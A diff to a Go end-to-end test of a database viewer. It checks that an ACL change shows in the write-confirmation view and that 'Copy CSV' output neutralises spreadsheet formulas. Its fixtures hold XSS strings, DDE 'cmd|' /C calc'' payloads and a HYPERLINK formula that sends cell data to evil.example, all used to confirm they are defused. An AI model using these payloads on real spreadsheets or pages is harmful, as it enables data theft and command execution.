@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -103,7 +104,8 @@ type viewsReport struct {
 			Replay        map[string]any
 			TokenPrefix   string
 		}
-		Attack struct {
+		ConfirmACL struct{ Text string }
+		Attack     struct {
 			Dom struct {
 				Text, HTML string
 				Scripts    int
@@ -114,6 +116,7 @@ type viewsReport struct {
 			Hidden, Missing map[string]any
 			Global          string
 			HTML            string
+			CSV             string
 		}
 	}
 }
@@ -124,16 +127,17 @@ func TestViewsInBrowser(t *testing.T) {
 	// The demo app, read only: rows, chart, a pointer.
 	demo := startHTTP(t)
 
-	// A writable class under confirm_writes: always.
+	// A writable class under confirm_writes: always, its ACL writable.
 	wdb, wuri := writeDB(t, bson.D{{Key: "_id", Value: "Memo"}, {Key: "objectId", Value: "string"}, {Key: "title", Value: "string"}, {Key: "n", Value: "number"}})
 	ctx := context.Background()
 	if _, err := wdb.Collection("Memo").InsertMany(ctx, []any{
 		bson.D{{Key: "_id", Value: "memoDecl01"}, {Key: "title", Value: "declined"}, {Key: "n", Value: 0}},
 		bson.D{{Key: "_id", Value: "memoConf01"}, {Key: "title", Value: "confirmed"}, {Key: "n", Value: 0}},
+		bson.D{{Key: "_id", Value: "memoAcl001"}, {Key: "title", Value: "private"}, {Key: "n", Value: 0}},
 	}); err != nil {
 		t.Fatal(err)
 	}
-	write := startHTTP(t, append(append([]string{}, writeEnv...), wuri, policyEnv(t, "settings: {confirm_writes: always}\n"))...)
+	write := startHTTP(t, append(append([]string{}, writeEnv...), wuri, policyEnv(t, "classes:\n  Memo: {writable_fields: [title, n, ACL]}\nsettings: {confirm_writes: always}\n"))...)
 
 	// Stored payloads, a hidden reference and a protected field, read by a
 	// scoped identity (protectedFields apply to it).
@@ -148,6 +152,11 @@ func TestViewsInBrowser(t *testing.T) {
 				{Key: "code", Value: "PROTECTED-CODE-1"}, {Key: "_p_secretRef", Value: "Vault$vAuLtId001"}},
 			bson.D{{Key: "_id", Value: "ticket0002"}, {Key: "title", Value: `<img src=x onerror="document.title='pwned'">`}, {Key: "note", Value: `<a href="javascript:document.title='pwned'">x</a>`},
 				{Key: "code", Value: "PROTECTED-CODE-2"}, {Key: "_p_secretRef", Value: "Vault$vAuLtId001"}},
+			// Spreadsheet formulas, in values and in a field's name, for
+			// Copy CSV; a negative number stays a number.
+			bson.D{{Key: "_id", Value: "ticket0003"}, {Key: "title", Value: `=HYPERLINK("http://evil.example/?"&B2,"open")`}, {Key: "note", Value: "+1+cmd|' /C calc'!A0"},
+				{Key: "code", Value: "PROTECTED-CODE-3"}, {Key: `=cmd|' /C calc'!A0`, Value: "@SUM(1+1)"}, {Key: `<img src=x onerror=alert(1)>`, Value: "x"}},
+			bson.D{{Key: "_id", Value: "ticket0004"}, {Key: "title", Value: "negative"}, {Key: "note", Value: "-5"}},
 		},
 		"Vault": {bson.D{{Key: "_id", Value: "vAuLtId001"}, {Key: "key", Value: "VAULT-KEY-SECRET"}}},
 		"_User": {bson.D{{Key: "_id", Value: "viewUser01"}, {Key: "username", Value: "viewer"}}},
@@ -183,6 +192,7 @@ func TestViewsInBrowser(t *testing.T) {
 			"tool":        "update_object",
 			"declineArgs": map[string]any{"class_name": "Memo", "object_id": "memoDecl01", "fields": map[string]any{"n": 5}, "dry_run": true},
 			"confirmArgs": map[string]any{"class_name": "Memo", "object_id": "memoConf01", "fields": map[string]any{"n": 7}, "dry_run": true},
+			"aclArgs":     map[string]any{"class_name": "Memo", "object_id": "memoAcl001", "fields": map[string]any{"ACL": map[string]any{"*": map[string]any{"read": true, "write": true}}}, "dry_run": true},
 		},
 		"attack": map[string]any{"args": map[string]any{"class_name": "Ticket"}, "hiddenClass": "Vault", "missingClass": "Nothing", "hiddenId": "vAuLtId001"},
 	}
@@ -313,6 +323,11 @@ func TestViewsInBrowser(t *testing.T) {
 		if strings.Count(write.stderr.String(), `"tool":"update_object","args_keys":["class_name","fields","object_id"]`) != 2 {
 			t.Errorf("want two audited writes (the confirmed one and the refused replay)")
 		}
+		// The ACL is not among the object's fields: the view shows the exact
+		// change (what an elicitation would ask about), not an empty diff.
+		if !strings.Contains(s.ConfirmACL.Text, "_wperm") {
+			t.Errorf("the confirm view hides an ACL change:\n%s", s.ConfirmACL.Text)
+		}
 	})
 
 	t.Run("attack", func(t *testing.T) {
@@ -327,6 +342,21 @@ func TestViewsInBrowser(t *testing.T) {
 		}
 		if a.Dom.Scripts != 1 || a.Dom.Images != 0 || len(a.Dom.Handlers) != 0 || a.Global == "pwned" {
 			t.Errorf("a payload ran or became markup: scripts %d images %d handlers %v title %q", a.Dom.Scripts, a.Dom.Images, a.Dom.Handlers, a.Global)
+		}
+		// Copy CSV is for a spreadsheet: no cell may start a formula.
+		cells, err := csv.NewReader(strings.NewReader(a.CSV)).ReadAll()
+		if err != nil || len(cells) != 5 {
+			t.Fatalf("Copy CSV: %v %q", err, a.CSV)
+		}
+		for _, row := range cells {
+			for _, cell := range row {
+				if _, num := strconv.ParseFloat(cell, 64); num != nil && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("Copy CSV has a formula cell %q", cell)
+				}
+			}
+		}
+		if !strings.Contains(a.CSV, `'=HYPERLINK(`) || !strings.Contains(a.CSV, ",-5,") {
+			t.Errorf("Copy CSV: %q", a.CSV)
 		}
 		for _, href := range a.Dom.Links {
 			if href != "#" {
